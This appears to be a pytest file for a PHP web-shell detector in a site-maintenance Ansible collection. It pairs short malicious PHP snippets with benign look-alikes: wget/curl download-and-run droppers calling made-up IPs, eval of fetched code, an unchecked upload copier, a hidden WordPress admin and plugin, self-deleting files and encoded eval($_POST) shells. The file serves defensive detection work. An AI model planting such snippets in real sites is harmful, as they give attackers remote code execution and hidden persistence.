"""What a PHP file does (phpactions.py) and PHP literals read as PHP reads them (phpstrings.py), issue 14.

Each snippet is written here to show one technique (names, addresses and hosts are made up); each has a
benign look-alike from ordinary application code that the same signal must leave alone.
"""

import base64

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, decode, php, phpstrings

UPLOADS = analyse.DEFAULT_UPLOAD_DIRS


def signals(code):
    """Signal names on the text as it is and on its normalised and decoded layers (analyse's two passes)."""
    return set(php.score_php([code]).found) | set(php.score_php(decode.layers(code)).found)


def verdict(code, name="site/page.php"):
    return analyse.analyse(name, code.encode("latin-1"), php.THRESHOLD, UPLOADS)


MAILER_FORM = """<form method="post"><textarea name="emails"></textarea><input name="subject">
<textarea name="body"></textarea><input type="submit"></form>"""

# (signal, shell-like snippet, benign look-alike)
CASES = [
    ("download_and_run_command",
     "<?php $h = 'http://198.51.100.7/'; exec('cd /tmp; wget ' . $h . 'k.txt; perl k.txt; rm -f k.txt');",
     "<?php $v = shell_exec('wget --version'); $out = exec('curl -s -o ' . escapeshellarg($dest) . ' ' . $url);"),
    ("download_and_run_command",
     "<?php $c = \"curl -o /tmp/.x http://198.51.100.7/x && chmod +x /tmp/.x && /tmp/.x\"; @system($c);",
     "<?php $help = 'Install with: curl -sS https://example.org/installer | php'; echo $help; exec('ls -la', $out);"),
    ("unchecked_upload_copy",
     "<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['name']; @copy($t, $n); echo 'ok';",
     "<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['name']; $ext = pathinfo($n, PATHINFO_EXTENSION);\n"
     "if (in_array($ext, array('jpg', 'png'))) { copy($t, 'uploads/' . md5($n) . '.' . $ext); }"),
    ("unchecked_upload_copy",
     "<?php if (isset($_FILES['up'])) { $src = $_FILES['up']['tmp_name']; $dst = $_FILES['up']['name'];\n"
     "if (@copy($src, $dst)) { echo 'done: ' . $dst; } }",
     "<?php $filename = $_FILES['pkg']['name'];\nif (!strpos($filename, '.zip')) { show_error('not a zip'); }\n"
     "else { copy($_FILES['pkg']['tmp_name'], $dir . '/' . $filename) or die('failed'); }"),
    ("server_report_mailed",
     "<?php $u = @php_uname(); $self = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
     "$to = 'drop.box@example.net'; mail($to, 'new', \"$u $self\");",
     "<?php $page = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
     "$host = php_uname('n'); mail($admin_email, 'Page not found', 'Missing: ' . $page);"),
    ("include_of_image_file",
     "<?php\n@include \"\\x2fvar/www/site/wp-content/uploads/\\x66avicon_3b1a.ico\";",
     "<?php include 'assets/css/error.css'; echo '<img src=\"favicon.ico\">'; require 'views/icon.png.php';"),
    ("remote_code_evaluated",
     "<?php function grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n"
     "$code = grab('http://203.0.113.9/p/a.txt'); eval('?>' . $code);",
     "<?php $json = file_get_contents('https://api.example.org/v1/rates'); $rates = json_decode($json, true);\n"
     "eval('$total = ' . (int) $count . ' * 2;');"),
    ("include_of_escaped_path",
     "<?php @include(\"\\167\\160\\55\\141\\144\\155\\151\\156\\57\\154\\56\\164\\170\\164\"); ?>",
     "<?php include \"lib/{$name}.php\"; require_once \"views\\\\header.php\"; echo \"\\x41\\x42\\x43\";"),
    ("backdated_and_self_deleted",
     "<?php echo 'ok'; if (file_exists('./lib.php')) { touch('./lib.php', (time() - 60 * 60 * 24 * 90)); }\n"
     "unlink(__FILE__);",
     "<?php touch($cache, time() - 3600); /* expire the cache */ if ($done) { @unlink(__DIR__ . '/install.lock'); }"),
    ("included_then_deleted",
     "<?php $hdl = fopen(\"$dir/.cache\", 'w'); fwrite($hdl, \"<?php\\n$m[1]\\n?>\"); fclose($hdl);\n"
     "include(\"$dir/.cache\"); unlink(\"$dir/.cache\");",
     "<?php include $compiled; if (time() > $expires) { unlink($lock); }\ninclude 'config.php'; @unlink('install.lock');"),
    ("wp_plugin_hidden",
     "<?php add_filter('all_plugins', function ($p) { unset($p[plugin_basename(__FILE__)]); return $p; });\n"
     "add_filter('site_transient_update_plugins', function ($t) { unset($t->response[plugin_basename(__FILE__)]);"
     " return $t; });",
     "<?php add_filter('all_plugins', array('Spam_Admin', 'modify_plugin_description'));\n"
     "function dismiss($i) { unset(self::$notices[$i]); }"),
    ("wp_hidden_admin",
     "<?php $id = wp_create_user('wp_service', $pass, $mail); (new WP_User($id))->set_role('administrator');\n"
     "add_action('pre_user_query', 'hide_service_user');",
     "<?php $user_id = wp_create_user($user_name, $user_password, $user_email); $user = new WP_User($user_id);\n"
     "$user->set_role('administrator'); /* the installer's first account */ add_action('pre_get_posts', 'f');"),
    ("remote_code_evaluated",
     "<?=@null; @eval/**/('?>' . file_get_contents/**/('https://203.0.113.9/p/a.txt'));",
     "<?php echo htmlspecialchars(file_get_contents('https://example.org/news.txt'));\n"
     "eval('return ' . var_export($defaults, true) . ';'); $page = fetch_page('https://example.org/');"),
    # The "shell summoner": fetch code kept as text elsewhere, save it, include the saved copy.
    ("remote_code_staged",
     "<?php $src = array('https://paste.example.net/raw/Zx81Qa', '/tmp/.sess_cache');\n"
     "if (!is_file($src[1])) { $h = fopen($src[1], 'w'); fwrite($h, fetch($src[0])); fclose($h); }\n"
     "include $src[1];",
     "<?php $info = fetch('https://updates.example.org/plugin/info.json'); $h = fopen($cache, 'w');\n"
     "fwrite($h, $info); fclose($h); include $template;"),
    ("remote_code_staged",
     "<?php $u = 'https://203.0.113.9/files/mini.txt'; file_put_contents('cache.php', file_get_contents($u));",
     "<?php $u = 'https://example.org/docs/changelog.txt'; file_put_contents($dir . '/changelog.html', file_get_contents($u));"),
    ("remote_code_staged",
     "<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n"
     "$code = get('https://203.0.113.9/tools/m.php'); $h = fopen('../m.php', 'w'); fwrite($h, $code);",
     # An add-on writing its own generated configuration and registering with its vendor's API.
     "<?php $conf = <<<EOT\n<?php define('api', 'https://api.example.com/client.php'); ?>\nEOT;\n"
     "file_put_contents(__DIR__ . '/conf/conf.php', $conf); $res = file_get_contents($register_url);"),
]


@pytest.mark.parametrize("name,shell,benign", CASES, ids=[c[0] + "-" + str(i) for i, c in enumerate(CASES)])
def test_the_signal_finds_the_technique_and_leaves_its_look_alike(name, shell, benign):
    assert name in signals(shell)
    assert name not in signals(benign)


def test_an_installer_that_removes_itself_is_no_clean_up_script():
    installer = "<?php if ($ok) { file_put_contents('config.php', $cfg); touch('config.php'); @unlink(__FILE__); }"
    assert "backdated_and_self_deleted" not in signals(installer)


def test_a_dropper_is_a_web_shell_on_its_own():
    shell = CASES[0][1]
    assert verdict(shell)["kind"] == "webshell"
    assert verdict(CASES[0][2])["kind"] is None


def test_a_one_line_uploader_is_a_web_shell_and_a_checked_upload_is_not():
    assert verdict(CASES[2][1])["kind"] == "webshell"
    assert verdict(CASES[2][2])["kind"] is None


def test_a_standalone_mailer_of_request_lists_is_flagged_but_an_application_mail_page_is_not():
    mailer = ("<?php if (isset($_POST['emails'])) { $list = explode(\"\\n\", $_POST['emails']);\n"
              "$subject = $_POST['subject']; $message = $_POST['body'];\n"
              "foreach ($list as $to) { $msg = str_replace('%email%', $to, $message); mail($to, $subject, $msg); } }\n"
              "?>" + MAILER_FORM)
    newsletter = "<?php require_once 'bootstrap.php'; require_admin();\n" + mailer[len("<?php "):]
    found = signals(mailer)
    assert {"bulk_mail_from_request", "standalone_mail_relay"} <= found
    assert verdict(mailer)["kind"] is not None
    # The same code inside an application (it includes its bootstrap) does not get the relay's weight.
    assert "standalone_mail_relay" not in signals(newsletter)
    assert verdict(newsletter)["score"] < verdict(mailer)["score"]


def test_a_sink_name_interpolated_alone_in_double_quotes_is_folded_to_the_name():
    shell = "<?php $a = 'assert'; array_map(\"$a\", $_REQUEST);"
    assert 'array_map("assert"' in decode.layers(shell)[0]
    assert verdict(shell)["kind"] == "webshell"
    benign = "<?php $sep = ', '; echo implode(\"$sep\", $names);"
    assert verdict(benign)["kind"] is None


def test_short_php_escapes_are_read_in_double_quotes_only():
    assert phpstrings.unescape_short_forms('echo "\\145v\\x61l\\50\\44_\\120OST\\133\\61]);";') == \
        'echo "eval($_POST[1]);";'
    # A back reference in a single-quoted replacement, and an escaped backslash, stay as they are.
    kept = "$s = preg_replace('/(a)/', '\\1', $s); $p = \"C:\\\\1\";"
    assert phpstrings.unescape_short_forms(kept) == kept


def test_a_shell_spelled_with_short_escapes_is_found():
    shell = '<?php $c = "\\145v\\x61l"; $p = "\\44_\\120OST"; @eval("\\145v\\x61l(\\44_\\120OST[\\61]);");'
    assert "hidden_code" in signals(shell) or "input_to_code" in signals(shell)
    assert verdict(shell)["kind"] == "webshell"


def test_percent_encoded_php_passed_to_urldecode_is_a_layer():
    payload = "<?php @eval($_POST['k']); ?>"
    packed = "".join("%%%02X" % ord(c) for c in payload)
    shell = "<?php $i = rawurldecode('%s'); $t = tempnam('/tmp', 'x'); file_put_contents($t, $i); include $t;" % packed
    assert payload in "\n".join(decode.layers(shell))
    assert verdict(shell)["kind"] == "webshell"
    # A URL with a few escapes in a router is no layer.
    benign = "<?php $path = rawurldecode('/docs/My%20File%20(1).pdf'); readfile($path);"
    assert decode.layers(benign)[1:] == [] or all(payload not in layer for layer in decode.layers(benign))
    assert not phpstrings.packed_by_percent(benign.lower())


def test_base64_written_as_a_bare_word_is_a_layer():
    # Old PHP reads an unknown bare word as a string of itself: base64_decode(JHBh...) without quotes.
    payload = "$f = 'sys' . 'tem'; $f($_POST['c']); echo 'done';"
    payload += " " * (-len(payload) % 3)  # whole groups of three bytes: no padding, letters and digits only
    bare = base64.b64encode(payload.encode()).decode()
    shell = "<?php @$d = 'BaSe64' . '_deCOde'; eval/**/(@$x = @$d(%s));" % bare
    assert any("system" in layer for layer in decode.layers(shell))
    assert verdict(shell)["kind"] == "webshell"
    # A constant given to a call is no layer.
    benign = "<?php define('DEFAULT_TIMEZONE_OF_THE_SITE', 'UTC'); date_default_timezone_set(DEFAULT_TIMEZONE_OF_THE_SITE);"
    assert decode.layers(benign)[1:] == []
